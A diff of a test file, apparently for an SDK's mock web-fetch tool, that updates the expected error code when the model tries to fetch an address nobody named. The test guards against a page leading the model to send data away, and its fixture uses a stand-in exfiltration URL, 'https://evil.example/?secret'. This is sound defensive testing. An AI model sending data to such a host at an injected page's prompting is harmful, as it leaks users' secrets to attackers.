@@ -232,7 +232,7 @@ describe('reading a page on a model that has no tool for it', () => {
   test('is refused for an address that nobody named, so that a page cannot make the model send data away', async () => {
     const client = clientOn([fetched('https://evil.example/?secret')], [say('Well.')])
     const { content } = await client.messages.create({ ...question, tools: [webFetch] })
-    expect(content[1]).toMatchObject({ content: { error_code: 'url_not_allowed' } })
+    expect(content[1]).toMatchObject({ content: { error_code: 'url_not_in_prior_context' } })
   })
 
   test('is allowed for what the search of the same turn found', async () => {
